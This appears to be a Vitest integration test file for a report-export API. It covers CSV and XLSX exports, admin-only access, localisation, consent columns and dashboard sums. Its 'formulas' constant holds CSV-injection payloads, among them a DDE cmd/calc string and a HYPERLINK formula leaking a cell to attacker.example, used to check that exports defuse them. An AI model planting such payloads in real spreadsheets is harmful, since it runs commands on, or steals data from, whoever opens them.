import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { dashboardSchema } from '../../src/contract/reports.ts'
import {
  apiBasePath,
  appHeader,
  appId,
  dataEnvelope,
  languageHeader,
} from '../../src/contract/http.ts'
import type { Locale } from '../../src/contract/locale.ts'
import { trialCreatedSchema, type TrialAnswers } from '../../src/contract/trial.ts'
import { visitNotes } from '../../server/db/schema/customers.ts'
import { storeLogs } from '../../server/db/schema/store-logs.ts'
import { trials } from '../../server/db/schema/trials.ts'
import { batchSize } from '../../server/routes/reports/batches.ts'
import { vouchers } from '../../server/db/schema/vouchers.ts'
import { insertTrial } from '../../server/routes/trials/queries.ts'
import { eq, inArray } from 'drizzle-orm'
import { expectAdminsOnly, signedIn } from './support/admin-fixtures.ts'
import { createCustomer, createVoucher } from './support/customer-fixtures.ts'
import { createStore, createUser, signIn, uniqueWord } from './support/fixtures.ts'
import { databases, expectShape, useApi, type TestApi } from './support/harness.ts'
import { postTrial } from './support/trial-fixtures.ts'
import { guidedAnswers, shortAnswers, trialBody } from '../support/trial-body.ts'

/** RFC 4180: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index] ?? ''
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"'
        index += 1
      } else if (char === '"') quoted = false
      else field += char
    } else if (char === '"') quoted = true
    else if (char === ',') {
      row.push(field)
      field = ''
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      index += 1
    } else field += char
  }
  if (field !== '' || row.length > 0) rows.push([...row, field])
  return rows
}

async function download(
  api: TestApi,
  token: string | undefined,
  body: unknown,
  language: Locale = 'en',
) {
  const headers: Record<string, string> = {
    [appHeader]: appId,
    [languageHeader]: language,
    'Content-Type': 'application/json',
  }
  if (token) headers.Authorization = `Bearer ${token}`
  const response = await fetch(`${api.url}${apiBasePath}/report/generate`, {
    method: 'POST',
    headers,
    body: JSON.stringify(body),
  })
  const bytes = new Uint8Array(await response.arrayBuffer())
  return { response, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) }
}

/** Cells a spreadsheet would run as formulas (OWASP CSV injection), a digit after `+`/`-` too. */
const formulas = [
  '+1+1',
  '-2+3',
  "+1+cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
  '@SUM(1)',
  '\tx',
  '\rx',
]

function answers(overrides: Partial<TrialAnswers>): TrialAnswers {
  return { ...guidedAnswers(), ...overrides }
}

describe.each(databases)('reports on $name', (database) => {
  const api = useApi(database)

  it('lets only super users and admins in: anonymous 401, agents and managers 403', async () => {
    const calls = [
      {
        method: 'POST',
        path: '/report/generate',
        body: { type: 'trials', format: 'csv', startAt: '2026-01-01', endAt: '2026-01-31' },
      },
      { method: 'GET', path: '/report/dashboard?startAt=2026-01-01&endAt=2026-01-31' },
    ]
    for (const call of calls) {
      expect(await expectAdminsOnly(api, call), call.path).toEqual({
        anonymous: 401,
        agent: 403,
        manager: 403,
      })
    }
    for (const role of ['admin', 'super'] as const) {
      const { token } = await signedIn(api, role)
      const { response } = await download(api, token, calls[0]?.body)
      expect(response.status).toBe(200)
      const dashboard = await api.request('GET', calls[1]?.path ?? '', { token })
      expect(dashboard.status).toBe(200)
    }
  })

  it('answers a trials CSV: a header row, then one row per stored trial, č kept', async () => {
    const admin = await signedIn(api, 'admin')
    const store = await createStore(api, { name: `Trafika Čačak ${uniqueWord()}` })
    const expert = await createUser(api)
    const guided = answers({ gender: 'male', ageRange: '35-44' })
    const guidedId = await insertTrial(api.db, {
      userId: expert.id,
      storeId: store.id,
      comment: guided,
      now: new Date('2030-03-05T09:15:00Z'),
    })
    const text = 'Kupac je rekao: "super", probaće, sutra\nopet'
    const simpleId = await insertTrial(api.db, {
      userId: expert.id,
      storeId: store.id,
      comment: text,
      now: new Date('2030-03-06T22:30:00Z'), // 2030-03-06 23:30 in Belgrade
    })
    await insertTrial(api.db, {
      userId: expert.id,
      storeId: store.id,
      comment: 'outside the range',
      now: new Date('2030-03-06T23:30:00Z'), // 2030-03-07 in Belgrade
    })

    const {
      response,
      bytes,
      text: csv,
    } = await download(api, admin.token, {
      type: 'trials',
      format: 'csv',
      startAt: '2030-03-01',
      endAt: '2030-03-06',
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="trials-2030-03-01-2030-03-06.csv"',
    )
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const [header, ...rows] = parseCsv(csv.slice(1))
    expect(header?.slice(0, 8)).toEqual([
      'Id',
      'Date',
      'Store',
      'Expert',
      'Kind',
      'Gender',
      'Age range',
      'Habits',
    ])
    expect(rows).toHaveLength(2)
    const column = (row: string[] | undefined, name: string) => row?.[header?.indexOf(name) ?? -1]
    const [first, second] = rows
    expect(first?.length).toBe(header?.length)
    expect(column(first, 'Id')).toBe(String(guidedId))
    expect(column(first, 'Date')).toBe('2030-03-05 10:15:00')
    expect(column(first, 'Store')).toBe(store.name)
    expect(column(first, 'Expert')).toBe(expert.fullname)
    expect(column(first, 'Gender')).toBe('Male')
    expect(column(first, 'Age range')).toBe('35–44')
    expect(column(first, 'Habits')).toBe('Cigarettes (RMC); Heated tobacco (HTS)')
    expect(column(first, 'HTS pack')).toBe('Aurum Gold')
    expect(column(first, 'RMC pack')).toBe('Domaći duvan')
    expect(column(first, 'Referral sources')).toBe('A friend; In-store display')
    expect(column(first, 'Email')).toBe(guided.email.email)
    expect(column(first, 'Phone')).toBe('+381641112233')
    expect(column(first, 'Sticks in order')).toBe('Gold, Azure')
    expect(column(first, 'Stick comments')).toBe('Gold: Sviđa joj se ukus.')
    expect(column(first, 'Device')).toBe('Aura One')
    expect(column(first, 'Shopping')).toBe('Yes, bought')
    expect(column(first, 'Reasons to buy')).toBe("Liked the taste; The brand expert's advice")
    expect(column(first, 'Purchased sticks')).toBe('Aurum Gold × 2')
    expect(column(second, 'Id')).toBe(String(simpleId))
    expect(column(second, 'Kind')).toBe('simple')
    expect(column(second, 'Date')).toBe('2030-03-06 23:30:00')
    expect(column(second, 'Comment')).toBe(text)
  })

  it('exports who set each consent box and the id of its words, never "yes" for a box the app ticked', async () => {
    const admin = await signedIn(api, 'admin')
    const store = await createStore(api)
    const agent = await createUser(api)
    const token = await signIn(api, agent)
    const submitted = async (body: unknown) => {
      const response = await postTrial(api, { token, body, key: crypto.randomUUID() })
      expect(response.status).toBe(201)
      return expectShape(dataEnvelope(trialCreatedSchema), response.body).data.id
    }
    const recordedId = await submitted({
      ...trialBody(store.id),
      consents: [
        {
          consent: 'privacyPolicy',
          given: true,
          ticked_by: 'app',
          text_id: '0123456789abcdef',
          locale: 'me',
        },
        {
          consent: 'analizeData',
          given: true,
          ticked_by: 'person',
          text_id: 'fedcba9876543210',
          locale: 'me',
        },
      ],
    })
    // An older app's trial with a contact: its boxes, but not who set them.
    const unrecordedId = await submitted(trialBody(store.id))
    // No contact given: the email step was skipped, no consent applies.
    const noContactId = await submitted(trialBody(store.id, shortAnswers(1)))
    const ids = [recordedId, unrecordedId, noContactId]
    await api.db
      .update(trials)
      .set({ capturedAt: new Date('2033-04-04T10:00:00Z') })
      .where(inArray(trials.id, ids))

    const range = { type: 'trials', format: 'csv', startAt: '2033-04-04', endAt: '2033-04-04' }
    const { text } = await download(api, admin.token, range)
    const [header, ...rows] = parseCsv(text.slice(1))
    const consents = (id: number) => {
      const row = rows.find((cells) => cells[0] === String(id))
      return ['Privacy policy', 'Analyse data'].map((name) => row?.[header?.indexOf(name) ?? -1])
    }
    expect(consents(recordedId)).toEqual([
      'ticked by the app (consent text 0123456789abcdef)',
      'ticked by the person (consent text fedcba9876543210)',
    ])
    expect(consents(unrecordedId)).toEqual([
      'ticked, by whom not recorded',
      'ticked, by whom not recorded',
    ])
    expect(consents(noContactId)).toEqual(['', ''])
  })

  it('answers store logs, vouchers and visit notes as CSV', async () => {
    const admin = await signedIn(api, 'super')
    const store = await createStore(api, { name: `Đurđevak ${uniqueWord()}` })
    const manager = await createUser(api, { role: 'manager' })
    await api.db.insert(storeLogs).values({
      userId: manager.id,
      storeId: store.id,
      loginAt: new Date('2030-04-02T08:00:00Z'),
      logoutAt: new Date('2030-04-02T10:30:00Z'),
    })
    await insertTrial(api.db, {
      userId: manager.id,
      storeId: store.id,
      comment: 'Proba',
      now: new Date('2030-04-02T09:00:00Z'),
    })
    const customer = await createCustomer(api, { fullname: 'Šćepan Žižić' })
    const voucher = await createVoucher(api, { type: 'PROMO', amount: '500.00', currency: 'RSD' })
    await api.db
      .update(vouchers)
      .set({
        status: 'used',
        usedAt: new Date('2030-04-02T09:30:00Z'),
        usedByCustomerId: customer.id,
        usedByUserId: manager.id,
        usedInStoreId: store.id,
      })
      .where(eq(vouchers.id, voucher.id))
    await api.db.insert(visitNotes).values({
      customerId: customer.id,
      userId: manager.id,
      storeId: store.id,
      reason: 'service',
      comment: '=cmd',
      createdAt: new Date('2030-04-02T09:45:00Z'),
    })
    const range = { format: 'csv', startAt: '2030-04-01', endAt: '2030-04-30' }
    const report = async (type: string) => {
      const { response, text } = await download(api, admin.token, { type, ...range })
      expect(response.status).toBe(200)
      return parseCsv(text.slice(1))
    }

    expect(await report('store-logs')).toEqual([
      ['Id', 'Manager', 'Email', 'Store', 'Login', 'Logout', 'Total minutes', 'Inputs'],
      [
        expect.any(String),
        manager.fullname,
        manager.email,
        store.name,
        '2030-04-02 10:00:00',
        '2030-04-02 12:30:00',
        '150',
        '1',
      ],
    ])
    const voucherRows = await report('vouchers')
    expect(voucherRows[0]).toEqual([
      'Id',
      'Code',
      'Type',
      'Status',
      'Value',
      'Created at',
      'Expires at',
      'Used at',
      'Customer email',
      'Expert',
      'Store',
    ])
    const used = voucherRows.find((row) => row[1] === voucher.code)
    // Type and status in words of the request's language, not the stored keys.
    expect(used?.slice(2, 5)).toEqual(['Promotion', 'Already used', '500.00 RSD'])
    expect(used?.slice(7)).toEqual([
      '2030-04-02 11:30:00',
      customer.email,
      manager.fullname,
      store.name,
    ])
    const { text: inSerbian } = await download(
      api,
      admin.token,
      { type: 'vouchers', ...range },
      'sr',
    )
    const usedInSerbian = parseCsv(inSerbian.slice(1)).find((row) => row[1] === voucher.code)
    expect(usedInSerbian?.slice(2, 4)).toEqual(['Promocija', 'Već iskorišćen'])
    expect(await report('visit-notes')).toEqual([
      ['Id', 'Date', 'Reason', 'Comment', 'Customer', 'Customer email', 'Expert', 'Store'],
      [
        expect.any(String),
        '2030-04-02 11:45:00',
        'Service',
        "'=cmd",
        'Šćepan Žižić',
        customer.email,
        manager.fullname,
        store.name,
      ],
    ])
  })

  it('defuses spreadsheet formulas (CSV injection) in trial comments, vouchers and visit notes; phones and numbers stay', async () => {
    const admin = await signedIn(api, 'admin')
    const store = await createStore(api)
    const expert = await createUser(api)
    const customer = await createCustomer(api)
    const phoneTrial = await insertTrial(api.db, {
      userId: expert.id,
      storeId: store.id,
      comment: answers({}),
      now: new Date('2034-06-01T08:00:00Z'),
    })
    const codes = formulas.map((formula) => `${formula} ${uniqueWord()}`.toUpperCase())
    for (const [index, formula] of formulas.entries()) {
      const at = new Date(Date.UTC(2034, 5, 2, 8, index))
      await insertTrial(api.db, { userId: expert.id, storeId: store.id, comment: formula, now: at })
      await api.db.insert(vouchers).values({
        code: codes[index] ?? '',
        type: 'PROMO',
        status: 'valid',
        createdAt: at,
        expiresAt: new Date('2034-12-31T00:00:00Z'),
      })
      await api.db.insert(visitNotes).values({
        customerId: customer.id,
        userId: expert.id,
        storeId: store.id,
        reason: 'info',
        comment: formula,
        createdAt: at,
      })
    }
    const range = { format: 'csv', startAt: '2034-06-01', endAt: '2034-06-02' }
    const report = async (type: string) => {
      const { response, text } = await download(api, admin.token, { type, ...range })
      expect(response.status).toBe(200)
      const [header = [], ...rows] = parseCsv(text.slice(1))
      return { rows, column: (name: string) => rows.map((row) => row[header.indexOf(name)]) }
    }
    const defused = (texts: string[]) => texts.map((text) => `'${text}`)

    const trialsCsv = await report('trials')
    expect(trialsCsv.column('Comment').slice(1)).toEqual(defused(formulas))
    expect(trialsCsv.column('Id')[0]).toBe(String(phoneTrial))
    expect(trialsCsv.column('Phone')[0]).toBe('+381641112233')
    const vouchersCsv = await report('vouchers')
    expect(vouchersCsv.column('Code')).toEqual(defused(codes))
    const notesCsv = await report('visit-notes')
    expect(notesCsv.column('Comment')).toEqual(defused(formulas))
    // No cell but a phone starts as a formula would, whatever column it is in.
    const cells = [trialsCsv, vouchersCsv, notesCsv].flatMap(({ rows }) => rows.flat())
    const formulaCells = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
    expect(formulaCells).toEqual(['+381641112233'])
  })

  it('writes formula-looking text into xlsx as text cells, never as formulas', async () => {
    const admin = await signedIn(api, 'admin')
    const store = await createStore(api)
    const expert = await createUser(api)
    for (const [index, formula] of formulas.entries()) {
      const now = new Date(Date.UTC(2034, 7, 2, 8, index))
      await insertTrial(api.db, { userId: expert.id, storeId: store.id, comment: formula, now })
    }
    const { bytes } = await download(api, admin.token, {
      type: 'trials',
      format: 'xlsx',
      startAt: '2034-08-02',
      endAt: '2034-08-02',
    })
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).not.toMatch(/<f[ >]/)
    const escaped = (text: string) => text.replace(/[&<>"]/g, (char) => `&#${char.charCodeAt(0)};`)
    for (const formula of formulas) {
      expect(sheet).toContain(
        `t="inlineStr"><is><t xml:space="preserve">${escaped(formula)}</t></is></c>`,
      )
    }
  })

  it('streams a report longer than one batch, every trial once and in order', async () => {
    const admin = await signedIn(api, 'admin')
    const store = await createStore(api)
    const expert = await createUser(api)
    const total = batchSize * 2 + 500
    const day = new Date('2032-07-01T10:00:00Z').getTime()
    const rows = Array.from({ length: total }, (_, index) => ({
      userId: expert.id,
      storeId: store.id,
      kind: 'simple' as const,
      answers: `Proba ${index}`,
      capturedAt: new Date(day + index * 1000),
    }))
    const inserted = await api.db.insert(trials).values(rows).returning({ id: trials.id })
    const { response, text } = await download(api, admin.token, {
      type: 'trials',
      startAt: '2032-07-01',
      endAt: '2032-07-01',
    })
    expect(response.status).toBe(200)
    const [header, ...lines] = parseCsv(text.slice(1))
    expect(lines).toHaveLength(total)
    expect(lines.map((line) => Number(line[0]))).toEqual(
      inserted.map((row) => row.id).sort((a, b) => a - b),
    )
    expect(lines.at(-1)?.[header?.indexOf('Comment') ?? -1]).toBe(`Proba ${total - 1}`)
  })

  it('answers headers and answers in the request language', async () => {
    const admin = await signedIn(api, 'admin')
    const store = await createStore(api)
    const expert = await createUser(api)
    await insertTrial(api.db, {
      userId: expert.id,
      storeId: store.id,
      comment: answers({ gender: 'female', habits: 'RMC' }),
      now: new Date('2031-05-05T09:15:00Z'),
    })
    const range = { type: 'trials', format: 'csv', startAt: '2031-05-05', endAt: '2031-05-05' }
    const { text } = await download(api, admin.token, range, 'sr')
    const [header, row] = parseCsv(text.slice(1))
    expect(header?.slice(0, 7)).toEqual([
      'Id',
      'Datum',
      'Prodavnica',
      'Ekspert',
      'Vrsta',
      'Pol',
      'Starosna grupa',
    ])
    const column = (name: string) => row?.[header?.indexOf(name) ?? -1]
    expect(column('Vrsta')).toBe('vođena')
    expect(column('Pol')).toBe('Ženski')
    expect(column('Navike')).toBe('Cigarete (RMC)')
  })

  it('answers xlsx as an Office Open XML workbook whose sheet holds the header and the rows', async () => {
    const admin = await signedIn(api, 'admin')
    const store = await createStore(api, { name: `Čačak <Centar> & ${uniqueWord()}` })
    const expert = await createUser(api)
    const id = await insertTrial(api.db, {
      userId: expert.id,
      storeId: store.id,
      comment: 'Rekao je "da"\nsutra',
      now: new Date('2033-02-02T12:00:00Z'),
    })
    const { response, bytes } = await download(api, admin.token, {
      type: 'trials',
      format: 'xlsx',
      startAt: '2033-02-01',
      endAt: '2033-02-03',
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    )
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="trials-2033-02-01-2033-02-03.xlsx"',
    )
    const files = unzipSync(bytes)
    expect(Object.keys(files).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ])
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    const rows = sheet.match(/<row r="\d+">[\s\S]*?<\/row>/g) ?? []
    expect(rows).toHaveLength(2)
    expect(rows[0]).toContain(
      '<c r="A1" s="1" t="inlineStr"><is><t xml:space="preserve">Id</t></is></c>',
    )
    expect(rows[1]).toContain(`<c r="A2"><v>${id}</v></c>`)
    expect(rows[1]).toContain(`Čačak &#60;Centar&#62; &#38; `)
    expect(rows[1]).toContain('Rekao je &#34;da&#34;\nsutra')
    // The last column (comment) of 28 is AB.
    expect(rows[1]).toMatch(/<c r="AB2" t="inlineStr">/)
  })

  it('names invalid fields of a report request', async () => {
    const admin = await signedIn(api, 'admin')
    const invalid = await api.request('POST', '/report/generate', {
      token: admin.token,
      body: { type: 'everything', startAt: '1.1.2030' },
      language: 'me',
    })
    expect(invalid.status).toBe(400)
    expect(invalid.body).toMatchObject({
      message: 'Ovo polje je obavezno.',
      invalidFields: [
        { field: 'type', message: 'Ovo polje je obavezno.' },
        { field: 'startAt', message: 'Ova vrijednost nije validna.' },
        { field: 'endAt', message: 'Ovo polje je obavezno.' },
      ],
    })
  })

  it('refuses a range that ends before it starts, as an error of its end, wherever days are asked', async () => {
    const admin = await signedIn(api, 'admin')
    const inverted = { startAt: '2026-05-10', endAt: '2026-05-01' }
    const expected = {
      message: 'The end date must not be before the start date.',
      invalidFields: [
        { field: 'endAt', message: 'The end date must not be before the start date.' },
      ],
    }
    const report = await api.request('POST', '/report/generate', {
      token: admin.token,
      body: { type: 'trials', ...inverted },
      language: 'en',
    })
    expect([report.status, report.body]).toMatchObject([400, expected])
    const query = new URLSearchParams(inverted).toString()
    for (const path of ['/report/dashboard', '/questionnaire/search', '/store/log']) {
      const answer = await api.request('GET', `${path}?${query}`, {
        token: admin.token,
        language: 'en',
      })
      expect([answer.status, answer.body], path).toMatchObject([400, expected])
    }
    // One day, start and end the same, is a range.
    const day = await api.request('GET', '/report/dashboard?startAt=2026-05-01&endAt=2026-05-01', {
      token: admin.token,
    })
    expect(day.status).toBe(200)
  })

  it('sums up the dashboard from a small known data set', async () => {
    const admin = await signedIn(api, 'admin')
    const word = uniqueWord()
    const storeA = await createStore(api, { name: `A ${word}` })
    const storeB = await createStore(api, { name: `B ${word}` })
    const expertX = await createUser(api)
    const expertY = await createUser(api)
    const add = (userId: number, storeId: number, now: string, comment: TrialAnswers | string) =>
      insertTrial(api.db, { userId, storeId, comment, now: new Date(now) })
    await add(
      expertX.id,
      storeA.id,
      '2031-05-10T10:00:00Z',
      answers({
        gender: 'female',
        ageRange: '25-34',
        shopping: 'yes',
        consumptionOrder: ['gold', 'azure'],
      }),
    )
    await add(
      expertY.id,
      storeA.id,
      '2031-05-10T11:00:00Z',
      answers({
        gender: 'male',
        ageRange: '18-24',
        shopping: 'no',
        consumptionOrder: ['gold'],
      }),
    )
    await add(
      expertX.id,
      storeB.id,
      '2031-05-10T22:30:00Z',
      answers({
        gender: 'female',
        ageRange: '25-34',
        shopping: 'yes',
        consumptionOrder: ['tan'],
      }),
    )
    await add(expertX.id, storeB.id, '2031-05-11T12:00:00Z', 'Kratka proba')
    await add(expertY.id, storeB.id, '2031-05-13T12:00:00Z', answers({ consumptionOrder: ['tan'] }))

    const response = await api.request(
      'GET',
      '/report/dashboard?startAt=2031-05-10&endAt=2031-05-11',
      { token: admin.token },
    )
    expect(response.status).toBe(200)
    const { data } = expectShape(dataEnvelope(dashboardSchema), response.body)
    expect(data).toEqual({
      trialsPerDay: [
        { day: '2031-05-10', count: 2 },
        { day: '2031-05-11', count: 2 },
      ],
      trialsPerStore: [
        { storeId: storeA.id, name: storeA.name, count: 2 },
        { storeId: storeB.id, name: storeB.name, count: 2 },
      ],
      trialsPerExpert: [
        { userId: expertX.id, name: expertX.fullname, count: 3 },
        { userId: expertY.id, name: expertY.fullname, count: 1 },
      ],
      conversion: 2 / 3,
      ageRanges: [
        { key: '25-34', count: 2 },
        { key: '18-24', count: 1 },
      ],
      genders: [
        { key: 'female', count: 2 },
        { key: 'male', count: 1 },
      ],
      sticks: [
        { key: 'gold', count: 2 },
        { key: 'azure', count: 1 },
        { key: 'tan', count: 1 },
      ],
      // Sent as they were finished: none late.
      arrival: { medianDelaySeconds: 0, p95DelaySeconds: 0, lateOverHour: 0 },
    })
    const empty = await api.request(
      'GET',
      '/report/dashboard?startAt=2040-01-01&endAt=2040-01-01',
      {
        token: admin.token,
      },
    )
    expect(expectShape(dataEnvelope(dashboardSchema), empty.body).data.conversion).toBe(0)
  })
})
